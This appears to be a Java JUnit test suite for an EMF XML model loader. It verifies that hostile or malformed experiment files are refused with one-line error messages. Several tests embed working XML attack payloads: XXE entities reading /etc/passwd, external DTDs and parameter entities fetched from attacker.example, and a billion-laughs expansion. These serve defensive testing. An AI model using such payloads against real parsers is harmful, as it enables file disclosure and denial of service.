// Malformed and hostile model files: each fails with one ModelLoadException whose one-line message says why.
package org.lmw.core.persistence;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;

import org.eclipse.emf.common.util.URI;
import org.eclipse.emf.ecore.resource.Resource;
import org.eclipse.emf.ecore.xmi.impl.XMIResourceImpl;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.lmw.core.persistence.ModelLoadException.Reason;
import org.lmw.model.Experiment;
import org.lmw.model.Workspace;

class HostileFilesTest {

    private static final String HEADER = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n";
    private static final String OPEN = "<lmw:Experiment xmi:version=\"2.0\" xmlns:xmi=\"http://www.omg.org/XMI\" "
            + "xmlns:lmw=\"http://lmw.org/model/1.0\" name=\"x\">\n";

    @TempDir
    Path dir;

    @Test
    void externalEntityReadingEtcPasswdIsRefusedAndNothingLeaks() throws Exception {
        String passwd = Files.exists(Path.of("/etc/passwd")) ? Files.readString(Path.of("/etc/passwd")) : "root:";
        ModelLoadException e = fails("xxe.lmw", HEADER
                + "<!DOCTYPE lmw:Experiment [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n"
                + "<lmw:Experiment xmi:version=\"2.0\" xmlns:xmi=\"http://www.omg.org/XMI\" "
                + "xmlns:lmw=\"http://lmw.org/model/1.0\" name=\"x\">\n  <description>&xxe;</description>\n"
                + "</lmw:Experiment>\n");
        assertEquals("xxe.lmw: not a valid experiment file: external entities are not allowed", e.getMessage());
        assertEquals(Reason.UNSAFE, e.getReason());
        assertFalse(e.getMessage().contains("root:"));
        assertNoLeak(e, passwd.lines().findFirst().orElse("root:"));
    }

    @Test
    void externalParameterEntityIsRefused() throws Exception {
        ModelLoadException e = fails("param.lmw", HEADER
                + "<!DOCTYPE x [ <!ENTITY % remote SYSTEM \"http://attacker.example/evil.dtd\"> %remote; ]>\n"
                + OPEN + "</lmw:Experiment>\n");
        assertEquals("param.lmw: not a valid experiment file: external entities are not allowed", e.getMessage());
    }

    @Test
    void externalDtdIsRefused() throws Exception {
        ModelLoadException e = fails("dtd.lmw", HEADER
                + "<!DOCTYPE lmw:Experiment SYSTEM \"http://attacker.example/x.dtd\">\n" + OPEN + "</lmw:Experiment>\n");
        assertEquals("dtd.lmw: not a valid experiment file: external DTDs are not allowed", e.getMessage());
        assertEquals(Reason.UNSAFE, e.getReason());
    }

    @Test
    void billionLaughsIsRefusedQuickly() throws Exception {
        StringBuilder doc = new StringBuilder(HEADER).append("<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
        doc.append(" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n");
        for (int i = 2; i <= 9; i++) {
            doc.append(" <!ENTITY lol").append(i).append(" \"");
            for (int j = 0; j < 10; j++) {
                doc.append("&lol").append(i - 1).append(';');
            }
            doc.append("\">\n");
        }
        doc.append("]>\n").append(OPEN.replace("name=\"x\"", "name=\"&lol9;\"")).append("</lmw:Experiment>\n");
        ModelLoadException e = assertTimeoutPreemptively(Duration.ofSeconds(5), () -> fails("lol.lmw", doc.toString()));
        assertEquals("lol.lmw: not a valid experiment file: entity declarations are not allowed", e.getMessage());
        assertEquals(Reason.UNSAFE, e.getReason());
    }

    @Test
    void anyDoctypeIsRefused() throws Exception {
        ModelLoadException e = fails("doctype.lmw", HEADER + "<!DOCTYPE lmw:Experiment>\n" + OPEN + "</lmw:Experiment>\n");
        assertEquals("doctype.lmw: not a valid experiment file: document type declarations (DOCTYPE) are not "
                + "allowed", e.getMessage());
    }

    @Test
    void utf16FileWithExternalEntityIsRefused() throws Exception {
        String doc = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "
                + "\"file:///etc/passwd\">]>\n" + OPEN + "</lmw:Experiment>\n";
        Path file = dir.resolve("utf16.lmw");
        Files.write(file, doc.getBytes(StandardCharsets.UTF_16));
        ModelLoadException e = assertThrows(ModelLoadException.class, () -> ExperimentFiles.load(file));
        assertEquals(Reason.UNSAFE, e.getReason());
        assertTrue(e.getMessage().startsWith("utf16.lmw: not a valid experiment file: "), e.getMessage());
    }

    @Test
    void parserOptionsAloneRefuseDoctypesThatPlainEmfProcesses() throws Exception {
        Path secret = dir.resolve("secret.txt");
        Files.writeString(secret, "root-secret-42");
        byte[] doc = (HEADER + "<!DOCTYPE lmw:Experiment [ <!ENTITY inner \"expanded-by-the-parser\">"
                + " <!ENTITY xxe SYSTEM \"" + secret.toUri() + "\"> ]>\n" + OPEN
                + "  <description>&inner;</description>\n  <tags>&xxe;</tags>\n</lmw:Experiment>\n")
                .getBytes(StandardCharsets.UTF_8);
        URI uri = URI.createFileURI(dir.resolve("a.lmw").toString());
        // Control: EMF with default options processes the DOCTYPE and expands its entities.
        XMIResourceImpl plain = new XMIResourceImpl(uri);
        plain.load(new ByteArrayInputStream(doc), null);
        assertEquals("expanded-by-the-parser", ((Experiment) plain.getContents().get(0)).getDescription());
        // A resource from the LMW factory refuses the file with no options passed, i.e. without the pre-scan.
        Resource safe = new LmwResourceFactory().createResource(uri);
        IOException e = assertThrows(IOException.class, () -> safe.load(new ByteArrayInputStream(doc), null));
        assertTrue(String.valueOf(e.getMessage()).contains("DOCTYPE"), e.getMessage());
        assertTrue(safe.getContents().isEmpty());
        assertNoLeak(e, "root-secret-42");
    }

    @Test
    void truncatedFileSaysWhereTheXmlEnds() throws Exception {
        Path good = dir.resolve("good.lmw");
        ExperimentFiles.save(ExperimentFiles.newDefaultExperiment("fmnist"), good);
        String text = Files.readString(good);
        String truncated = text.substring(0, text.length() * 2 / 3);
        long lines = truncated.lines().count();
        ModelLoadException e = fails("fmnist.lmw", truncated);
        assertEquals("fmnist.lmw: not a valid experiment file: XML ends early at line " + lines, e.getMessage());
        assertEquals(Reason.NOT_XML, e.getReason());
    }

    @Test
    void wrongTagsAreNamed() throws Exception {
        ModelLoadException element = fails("tags.lmw", HEADER + OPEN + "  <model width=\"3\"/>\n  <bogus/>\n"
                + "</lmw:Experiment>\n");
        assertEquals("tags.lmw: not a valid experiment file: unknown field or element 'bogus' at line 4",
                element.getMessage());
        assertEquals(Reason.INVALID_MODEL, element.getReason());
        ModelLoadException attribute = fails("attr.lmw", HEADER + OPEN.replace("name=", "colour=\"red\" name=")
                + "</lmw:Experiment>\n");
        assertEquals("attr.lmw: not a valid experiment file: unknown field or element 'colour' at line 2",
                attribute.getMessage());
        ModelLoadException type = fails("type.lmw", HEADER + OPEN.replace("lmw:Experiment", "lmw:Experimnet")
                + "</lmw:Experimnet>\n");
        assertEquals("type.lmw: not a valid experiment file: unknown element type 'Experimnet' at line 2",
                type.getMessage());
        ModelLoadException mismatched = fails("mismatch.lmw", HEADER + OPEN + "  <model>\n</lmw:Experiment>\n");
        assertTrue(mismatched.getMessage().startsWith("mismatch.lmw: not a valid experiment file: XML is "
                + "malformed: "), mismatched.getMessage());
        assertTrue(mismatched.getMessage().endsWith(" at line 4"), mismatched.getMessage());
    }

    @Test
    void illegalValuesNameTheField() throws Exception {
        ModelLoadException number = fails("value.lmw", HEADER + OPEN + "  <model width=\"wide\"/>\n"
                + "</lmw:Experiment>\n");
        assertEquals("value.lmw: not a valid experiment file: invalid value 'wide' for width at line 3",
                number.getMessage());
        ModelLoadException literal = fails("enum.lmw", HEADER + OPEN + "  <model architecture=\"rnn\"/>\n"
                + "</lmw:Experiment>\n");
        assertEquals("enum.lmw: not a valid experiment file: invalid value 'rnn' for architecture at line 3",
                literal.getMessage());
    }

    @Test
    void wrongRootTypeIsNamed() throws Exception {
        Path notebook = dir.resolve("eos.lmwnb");
        NotebookFiles.save(NotebookFiles.newNotebook("EoS"), notebook);
        Path misnamed = dir.resolve("eos.lmw");
        Files.copy(notebook, misnamed);
        ModelLoadException e = assertThrows(ModelLoadException.class, () -> ExperimentFiles.load(misnamed));
        assertEquals("eos.lmw: not a valid experiment file: it holds a model of type 'Notebook' (expected "
                + "'Experiment')", e.getMessage());
        assertEquals(Reason.INVALID_MODEL, e.getReason());
        Path experiment = dir.resolve("x.lmw");
        ExperimentFiles.save(ExperimentFiles.newDefaultExperiment("x"), experiment);
        ModelLoadException other = assertThrows(ModelLoadException.class, () -> NotebookFiles.load(experiment));
        assertEquals("x.lmw: not a valid notebook file: it holds a model of type 'Experiment' (expected "
                + "'Notebook')", other.getMessage());
    }

    @Test
    void foreignNamespaceIsNamedAndNeverFetched() throws Exception {
        ModelLoadException e = fails("ns.lmw", HEADER + "<x:Experiment xmlns:x=\"http://attacker.example/x\" "
                + "xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" "
                + "xsi:schemaLocation=\"http://attacker.example/x file:///etc/passwd\" name=\"x\"/>\n");
        assertEquals("ns.lmw: not a valid experiment file: unknown model namespace 'http://attacker.example/x' "
                + "(expected http://lmw.org/model/1.0) at line 2", e.getMessage());
        assertEquals(Reason.INVALID_MODEL, e.getReason());
        assertFalse(e.getMessage().contains("root:"), e.getMessage());
        assertNoLeak(e, "root:x:0:0");
    }

    @Test
    void referenceToAnotherDocumentIsNeverResolved() throws Exception {
        Path file = dir.resolve("ws.lmw");
        Files.writeString(file, HEADER + "<lmw:Workspace xmi:version=\"2.0\" xmlns:xmi=\"http://www.omg.org/XMI\" "
                + "xmlns:lmw=\"http://lmw.org/model/1.0\" name=\"w\">\n"
                + "  <experiments href=\"file:///etc/passwd#/\"/>\n</lmw:Workspace>\n");
        Workspace workspace = ModelFiles.load(file, Workspace.class);
        // The proxy stays a proxy: resolving it goes through the isolated URI converter, which refuses.
        Experiment proxy = workspace.getExperiments().get(0);
        assertTrue(proxy.eIsProxy());
        assertTrue(workspace.eResource().getErrors().isEmpty());
    }

    @Test
    void binaryGarbageIsNotXml() throws Exception {
        Path file = dir.resolve("garbage.lmw");
        byte[] bytes = new byte[4096];
        new java.util.Random(42).nextBytes(bytes);
        bytes[0] = 0x1f;
        bytes[1] = (byte) 0x8b;
        Files.write(file, bytes);
        ModelLoadException e = assertThrows(ModelLoadException.class, () -> ExperimentFiles.load(file));
        assertEquals("garbage.lmw: not a valid experiment file: not XML (it does not start with an XML "
                + "declaration or element)", e.getMessage());
        assertEquals(Reason.NOT_XML, e.getReason());
    }

    @Test
    void textThatIsNotXmlIsNotXml() throws Exception {
        ModelLoadException e = fails("notes.lmw", "name: fmnist\nlearningRate: 0.1\n");
        assertEquals(Reason.NOT_XML, e.getReason());
        assertTrue(e.getMessage().startsWith("notes.lmw: not a valid experiment file: not XML"), e.getMessage());
    }

    @Test
    void invalidUtf8IsMalformedXml() throws Exception {
        Path file = dir.resolve("latin.lmw");
        byte[] head = (HEADER + OPEN.replace("name=\"x\"", "name=\"")).getBytes(StandardCharsets.UTF_8);
        byte[] tail = "\"></lmw:Experiment>".getBytes(StandardCharsets.UTF_8);
        byte[] bytes = new byte[head.length + 2 + tail.length];
        System.arraycopy(head, 0, bytes, 0, head.length);
        bytes[head.length] = (byte) 0xe9;
        bytes[head.length + 1] = (byte) 0x20;
        System.arraycopy(tail, 0, bytes, head.length + 2, tail.length);
        Files.write(file, bytes);
        ModelLoadException e = assertThrows(ModelLoadException.class, () -> ExperimentFiles.load(file));
        assertEquals(Reason.NOT_XML, e.getReason());
        assertTrue(e.getMessage().startsWith("latin.lmw: not a valid experiment file: XML is malformed: "),
                e.getMessage());
    }

    @Test
    void emptyAndBlankFiles() throws Exception {
        ModelLoadException empty = fails("empty.lmw", "");
        assertEquals("empty.lmw: the file is empty", empty.getMessage());
        assertEquals(Reason.EMPTY, empty.getReason());
        assertEquals("the file is empty", empty.getProblem());
        assertEquals("blank.lmw: the file is empty", fails("blank.lmw", " \n\t\n").getMessage());
    }

    @Test
    void rootlessDocument() throws Exception {
        ModelLoadException e = fails("nothing.lmw", HEADER + "<xmi:XMI xmi:version=\"2.0\" "
                + "xmlns:xmi=\"http://www.omg.org/XMI\"/>\n");
        assertEquals("nothing.lmw: not a valid experiment file: it holds no model (expected one of type "
                + "'Experiment')", e.getMessage());
    }

    @Test
    void twoRoots() throws Exception {
        ModelLoadException e = fails("two.lmw", HEADER + "<xmi:XMI xmi:version=\"2.0\" "
                + "xmlns:xmi=\"http://www.omg.org/XMI\" xmlns:lmw=\"http://lmw.org/model/1.0\">\n"
                + "<lmw:Experiment name=\"a\"/>\n<lmw:Experiment name=\"b\"/>\n</xmi:XMI>\n");
        assertEquals("two.lmw: not a valid experiment file: it holds 2 top-level elements (expected one of type "
                + "'Experiment')", e.getMessage());
    }

    @Test
    void missingFileAndFolder() throws Exception {
        ModelLoadException missing = assertThrows(ModelLoadException.class,
                () -> ExperimentFiles.load(dir.resolve("gone.lmw")));
        assertEquals("gone.lmw: file not found", missing.getMessage());
        assertEquals(Reason.NOT_FOUND, missing.getReason());
        Path folder = Files.createDirectory(dir.resolve("folder.lmw"));
        assertEquals("folder.lmw: is a folder, not a file",
                assertThrows(ModelLoadException.class, () -> ExperimentFiles.load(folder)).getMessage());
    }

    @Test
    void hugeFileIsRefusedWithoutReadingIt() throws Exception {
        Path file = dir.resolve("huge.lmw");
        try (RandomAccessFile raf = new RandomAccessFile(file.toFile(), "rw")) {
            raf.setLength(ModelFiles.MAX_FILE_BYTES + 1);
        }
        ModelLoadException e = assertThrows(ModelLoadException.class, () -> ExperimentFiles.load(file));
        assertEquals("huge.lmw: file is too large to be a model file (33554433 bytes; at most 33554432)",
                e.getMessage());
        assertEquals(Reason.UNREADABLE, e.getReason());
    }

    private ModelLoadException fails(String name, String content) throws Exception {
        Path file = dir.resolve(name);
        Files.writeString(file, content, StandardCharsets.UTF_8);
        ModelLoadException e = assertThrows(ModelLoadException.class, () -> ExperimentFiles.load(file));
        assertOneLine(e);
        assertEquals(file, e.getFile());
        return e;
    }

    private static void assertOneLine(ModelLoadException e) {
        String message = e.getMessage();
        assertFalse(message.contains("\n"), message);
        assertFalse(message.contains("Exception"), message);
        assertFalse(message.contains("at org."), message);
        assertTrue(message.length() < 300, message);
        assertTrue(message.endsWith(e.getProblem()), message);
    }

    /** Nothing of the secret may reach the message or any cause's message. */
    private static void assertNoLeak(Throwable e, String secret) {
        for (Throwable t = e; t != null; t = t.getCause()) {
            assertFalse(String.valueOf(t.getMessage()).contains(secret), t.toString());
        }
    }
}
